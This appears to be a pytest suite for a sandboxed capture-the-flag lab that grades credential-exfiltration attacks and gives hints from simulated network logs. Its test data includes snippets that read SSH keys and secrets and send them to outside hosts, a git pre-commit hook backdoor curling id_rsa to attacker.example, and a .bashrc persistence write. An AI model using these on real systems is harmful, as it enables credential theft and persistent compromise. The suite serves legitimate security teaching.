"""Capture the flag, for real: every reference attack captures its level, none captures the scoped one, a miss gets a
hint from what the attack did (or, where the logs show nothing, the next hint).

The flag is fresh for every run and the capture is judged only from what the
simulated internet logged (``ctf.judge`` over ``execution.sightings``).
"""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any, Optional

import pytest

from grader.cli import main as cli
from grader.core.policy import Policy, load_policy
from grader.course.ladder import attack, level, load_levels

pytestmark = [pytest.mark.docker]

ATTACKS = Path(__file__).resolve().parents[2] / "solutions" / "attacks"
LEVELS = load_levels()
FINAL = next(lv for lv in LEVELS if lv.uncapturable is not None)  # the correctly scoped level
REFERENCE = {lv.number: ATTACKS / f"{lv.id}.py" for lv in LEVELS if lv.uncapturable is None}
WRONG = "print(open('/home/user/.ssh/id_rsa').read()[:40])  # reads the key, sends it nowhere\n"


def _levels() -> list[Any]:
    return [pytest.param(lv.number, id=f"{lv.number:02d}-{lv.id}") for lv in LEVELS if lv.uncapturable is None]


def _policy(number: int) -> Optional[Policy]:
    """The capstone's reference policy (the tightest for its job); None for every level with its own sandbox."""
    path = ATTACKS / f"{level(number).id}.policy.json"
    return load_policy(str(path)) if level(number).capstone is not None else None


@pytest.mark.parametrize("number", _levels())
def test_the_reference_attack_captures_its_level(number: int, docker_backend: Any, no_leftovers: None) -> None:
    lv = level(number)
    result = attack(lv, REFERENCE[number].read_text(encoding="utf-8"), docker_backend, policy=_policy(number))
    assert result.captured, (result.output[-2000:], result.elsewhere, result.note)
    assert result.sinks and all(s.evidence for s in result.sinks) and result.hint == ""
    assert not result.note, result.note  # every recorder answered: the silence elsewhere means something


@pytest.mark.parametrize("number", sorted(REFERENCE))
def test_no_reference_attack_captures_the_final_level(number: int, docker_backend: Any, no_leftovers: None) -> None:
    result = attack(FINAL, REFERENCE[number].read_text(encoding="utf-8"), docker_backend)
    assert not result.captured and result.sinks == () and result.elsewhere == (), result.output[-2000:]
    assert result.note == "", "a recorder failed: silence would prove nothing"
    assert result.hint in FINAL.hints or result.hint_from == "evidence", result.hint


def test_a_flagless_post_to_an_allowed_upload_host_gets_a_hint_naming_that_host(docker_backend: Any, no_leftovers: None) -> None:
    """The hint is read from the records that judged the miss: the gist host logged the POST, the proxy its refusal."""
    code = ("import urllib.request\n"
            "for url in ('https://gist.github.com/', 'https://pypi.org/simple/'):\n"
            "    try:\n"
            "        urllib.request.urlopen(urllib.request.Request(url, data=b'hello', method='POST'), timeout=5)\n"
            "    except Exception as exc:\n"
            "        print(url, exc)\n")
    result = attack(level(2), code, docker_backend)
    assert result.captured is False and result.hint_from == "evidence", (result.hint, result.output[-2000:])
    assert "The proxy refused pypi.org: not in the allowed list." in result.hint
    assert "Your POST / reached gist.github.com, which keeps what it is sent" in result.hint and "the flag was not in it" in result.hint


def test_the_scoped_levels_why_says_an_npm_publish_was_accepted_and_no_secret(docker_backend: Any, no_leftovers: None) -> None:
    assert FINAL.uncapturable is not None
    publish = ("import json, urllib.request\n"
               "body = json.dumps({'name': 'ws-copy', 'readme': open('/app/workspace/package.json').read()}).encode()\n"
               "print(urllib.request.urlopen(urllib.request.Request('https://registry.npmjs.org/ws-copy', data=body, method='PUT',"
               " headers={'Content-Type': 'application/json'}), timeout=5).status)\n")
    result = attack(FINAL, publish, docker_backend, attempts_before=FINAL.uncapturable.after - 1)
    assert result.captured is False, result.output[-2000:]
    assert result.hint.startswith("Your PUT /ws-copy reached registry.npmjs.org, which keeps what it is sent"), result.hint
    assert "what left was no secret" in result.hint and result.hint.endswith(FINAL.uncapturable.why)
    assert "no secret can leave" not in result.hint.lower()


def test_the_http_reference_attack_does_not_capture_the_dns_level(docker_backend: Any, no_leftovers: None) -> None:
    dns_level = next(lv for lv in LEVELS if lv.channels == ("dns",))
    result = attack(dns_level, REFERENCE[1].read_text(encoding="utf-8").replace(
        '"/home/user/.ssh/id_rsa"', f'"{dns_level.flag_in[0]}"'), docker_backend)
    assert not result.captured and [s.how for s in result.elsewhere] == ["HTTP POST"], result.output[-2000:]


def test_a_wrong_attack_gets_the_next_hint_through_the_cli(tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
                                                           capsys: pytest.CaptureFixture[str], no_leftovers: None) -> None:
    monkeypatch.setenv("SANDBOX_LAB_PROGRESS", str(tmp_path / "progress.json"))
    wrong = tmp_path / "attack.py"
    wrong.write_text(WRONG)
    lv = level(1)
    hints = []
    for _ in range(2):
        code = cli.main(["attack", "--level", "1", str(wrong), "--backend", "docker", "--json"])
        data = json.loads(capsys.readouterr().out)
        assert code == 1 and data["captured"] is False and data["sinks"] == []
        assert "BEGIN" in data["output"] or "FLAG{" in data["output"], data["output"]  # it read the key: printing is not sending
        hints.append(data["hint"])
    assert hints == [lv.hints[0], lv.hints[1]]
    code = cli.main(["attack", "--level", "1", str(REFERENCE[1]), "--backend", "docker"])
    out = capsys.readouterr().out
    assert code == 0 and "CAPTURED (attempt 3)" in out and "attacker.example" in out


def _capture_notebook() -> Any:
    import importlib.util

    spec = importlib.util.spec_from_file_location("make_task_notebooks", ATTACKS.parents[1] / "scripts" / "make_task_notebooks.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module.build_capture()


def test_autograde_verifies_each_capture_in_its_own_run_and_never_runs_the_cell(tmp_path: Path, docker_backend: Any,
                                                                               no_leftovers: None) -> None:
    pytest.importorskip("nbgrader", reason="the notebook stack is in the 'lab' extra")
    from grader.grading.autograde import grade_attacks

    nb = _capture_notebook()
    cells = {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells}
    cells["capture-the-flag-l02-attack"].source = f"attack_2 = {WRONG!r}"
    bait = tmp_path / "ran-in-the-grader"
    # whatever else the cell does is never executed: only the literal is read, and it runs only in the sandbox
    cells["capture-the-flag-l03-attack"].source = (
        f"open({str(bait)!r}, 'w').close()\nattack_3 = {REFERENCE[3].read_text()!r}\nassert_captured = lambda *a: None")
    scored = grade_attacks(nb, docker_backend)
    assert scored == {"capture-the-flag-l01-captured": True, "capture-the-flag-l02-captured": False,
                      "capture-the-flag-l03-captured": True}
    assert not bait.exists()
    ok = cells["capture-the-flag-l01-captured"].outputs[0]
    assert ok["output_type"] == "stream" and "verified by Sandbox Lab's own run in docker" in ok["text"] and "attacker.example" in ok["text"]
    miss = cells["capture-the-flag-l02-captured"].outputs[0]
    assert miss["output_type"] == "error" and level(2).hints[0] in miss["evalue"]


def test_autograde_awards_nothing_without_a_real_run_and_says_why() -> None:
    pytest.importorskip("nbgrader", reason="the notebook stack is in the 'lab' extra")
    from grader.grading.autograde import grade_attacks
    from grader.backends.static import StaticBackend

    nb = _capture_notebook()
    assert set(grade_attacks(nb, StaticBackend()).values()) == {False}
    out = next(c for c in nb.cells if c.metadata["nbgrader"]["grade_id"] == "capture-the-flag-l01-captured").outputs[0]
    assert out["output_type"] == "error" and "not verified, no points: attacks cannot be predicted" in out["evalue"]


def test_autograde_awards_nothing_for_a_run_that_could_not_be_judged_and_says_so() -> None:
    pytest.importorskip("nbgrader", reason="the notebook stack is in the 'lab' extra")
    from grader.grading.autograde import grade_attacks
    from grader.core.evidence import Evidence
    from grader.core.execution import Execution

    class CutEngine:  # the grader's own run came back with a cut log and no sighting
        name = "docker"

        def execute(self, plan: Any, job: Any) -> Execution:
            ev = Evidence(token="t", canaries={}, records=(), before={}, after={}, network=plan.network,
                          infra_problem="the run's evidence cannot be read whole (http.jsonl: cut off)")
            return Execution(backend="docker", output="", exit_code=0, timed_out=False, evidence=ev)

    nb = _capture_notebook()
    cells = {c.metadata["nbgrader"]["grade_id"]: c for c in nb.cells}
    cells["capture-the-flag-l01-attack"].source = f"attack_1 = {WRONG!r}"
    assert grade_attacks(nb, CutEngine())["capture-the-flag-l01-captured"] is False  # type: ignore[arg-type]
    out = cells["capture-the-flag-l01-captured"].outputs[0]
    assert out["output_type"] == "error" and "could not grade" in out["evalue"] and "cut off" in out["evalue"]
    assert "not captured" not in out["evalue"] and "Hint" not in out["evalue"]


# --- issue 41: each miss is told what this attack did, and no number of misses gives the answer -------------

_HOOK = "/project/.git/hooks/pre-commit"
TRACES = Path(__file__).resolve().parents[1] / "fixtures" / "ctf_traces"
WRONG_ATTACKS: list[tuple[str, str, str, tuple[str, ...]]] = [
    # (level id, why it is wrong, the attack, words its hint must say about what it did)
    ("secure-npm", "a DNS lookup in a sandbox with no name server",
     "import socket\nsocket.gethostbyname('k3y.attacker.example')\n",
     ("name lookup failed inside the sandbox", "no name server", "$HTTPS_PROXY")),
    ("secure-npm", "a POST to a host the policy does not allow",
     "import urllib.request\nkey = open('/home/user/.ssh/id_rsa', 'rb').read()\n"
     "urllib.request.urlopen(urllib.request.Request('https://gist.github.com/', data=key), timeout=5)\n",
     ("The proxy refused gist.github.com", "not in the allowed list")),
    ("naive-gist", "a POST to an allowed name that no host has",
     "import urllib.request\nsecret = open('/etc/secrets/db_password', 'rb').read()\n"
     "try:\n    urllib.request.urlopen(urllib.request.Request('https://www.github.com/', data=secret), timeout=5)\n"
     "except Exception as exc:\n    print('failed:', exc)\n",
     ("www.github.com reached the proxy, which allows it", "no such host exists in this world", "502")),
    ("persistence", "a curl backdoor, in a next session that has no curl",
     f"shebang, rest = open({_HOOK!r}).read().split('\\n', 1)\n"
     f"open({_HOOK!r}, 'w').write(shebang + '\\ncurl -s -d @/home/user/.ssh/id_rsa https://attacker.example/\\n' + rest)\n",
     (f"Your change to {_HOOK} ran at the next git commit in /project", "sent nothing anywhere", "curl", "not found")),
    ("persistence", "a backdoor in the home's ~/.bashrc, which srt keeps read-only",
     "open('/home/user/.bashrc', 'a').write('python3 -c \"print(1)\"\\n')\n",
     ("write to /home/user/.bashrc was refused", "Read-only file system", "No start-up file changed")),
]


class _Recording:
    """The Docker backend, keeping the last execution it returned: the trace a unit test replays (tests/fixtures/ctf_traces)."""

    def __init__(self, inner: Any) -> None:
        self.inner, self.name, self.last = inner, inner.name, None

    def execute(self, plan: Any, job: Any) -> Any:
        self.last = self.inner.execute(plan, job)
        return self.last


def test_five_wrong_attacks_on_three_levels_each_get_a_hint_naming_what_they_did_and_never_the_answer(
        docker_backend: Any, no_leftovers: None, update_goldens: bool) -> None:
    """The hint is read from each run's own trace (the proxy's log, the attack's failed lookup or write, the next
    session's output), attempts pile up, and however many there were, no hint holds the level's solution. With
    --update-goldens each run's trace is written to tests/fixtures/ctf_traces/ for the unit tests to replay."""
    from grader.core.transport import execution_to_json

    seen: list[tuple[str, str]] = []
    recording = _Recording(docker_backend)
    for n, (level_id, why, code, words) in enumerate(WRONG_ATTACKS):
        lv = level(level_id)
        assert lv.solution is not None
        result = attack(lv, code, recording, attempts_before=n + 2)  # type: ignore[arg-type]  # many misses before: nudges, never the answer
        if update_goldens:
            TRACES.mkdir(parents=True, exist_ok=True)
            (TRACES / f"{n + 1}-{level_id}.json").write_text(json.dumps(
                {"level": level_id, "why": why, "attack": code, "attempts_before": n + 2, "flag": result.flag,
                 "words": list(words), "execution": execution_to_json(recording.last)}, indent=1) + "\n", encoding="utf-8")
        assert result.captured is False and not result.note, (why, result.note, result.output[-2000:])
        assert result.hint_from == "evidence", (why, result.hint, result.output[-2000:])
        for w in words:
            assert w in result.hint, (why, w, result.hint, result.output[-2000:])
        for text in (lv.solution.answer, lv.solution.channel, *lv.solution.also):
            assert text not in result.hint, (why, result.hint)
        assert result.nudge in lv.hints, (why, result.nudge)
        assert "id_rsa, but nothing" not in result.hint, "the planted flag is no change of the attack's"
        seen.append((level_id, result.hint))
    assert len({h for _, h in seen}) == len(WRONG_ATTACKS), "each attack got its own hint"
